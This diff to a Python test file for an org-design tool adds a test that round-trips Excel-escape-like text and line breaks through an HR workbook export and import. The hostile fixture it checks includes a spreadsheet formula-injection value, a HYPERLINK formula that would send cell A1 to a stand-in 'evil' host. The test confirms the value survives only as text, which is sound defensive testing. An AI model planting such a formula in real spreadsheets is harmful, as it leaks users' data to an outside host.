@@ -11,7 +11,7 @@ import openpyxl
 import pytest
 
 from orgdesigner import resources
-from orgdesigner.formats import hr_workbook, native, organogram, transparency
+from orgdesigner.formats import establishment, hr_workbook, native, organogram, transparency
 from orgdesigner.formats.cells import Formula
 from orgdesigner.formats.sheet_kit import MONEY, Book
 from orgdesigner.model.document import Document
@@ -130,3 +130,16 @@ def test_a_failed_export_leaves_the_previous_workbook_and_no_temporary_file(tmp_
         hr_workbook.export_workbook(hostile(), out, sheets=(*hr_workbook.SHEETS, broken))
     assert out.read_bytes() == before
     assert [p.name for p in tmp_path.iterdir()] == ["hr.xlsx"]
+
+
+def test_text_that_looks_like_excels_escapes_comes_back_as_typed(tmp_path: Path) -> None:
+    """Excel's file format escapes '_x0041_' in text; the writer and the import agree on it."""
+    document = hostile()
+    s = document.scenario("Proposed").structure
+    s.apply(UpdatePost("COO", {"title": "Head _x0041_ of OD", "notes": "line one\r\nline two"}))
+    out = tmp_path / "hr.xlsx"
+    hr_workbook.export_workbook(document, out)
+    back = establishment.import_establishment(out).document.scenario().structure
+    assert back.post("COO").title == "Head _x0041_ of OD"
+    assert back.post("COO").notes == "line one\nline two"
+    assert back.post("DSC").title == '+HYPERLINK("http://evil/?x="&A1)'
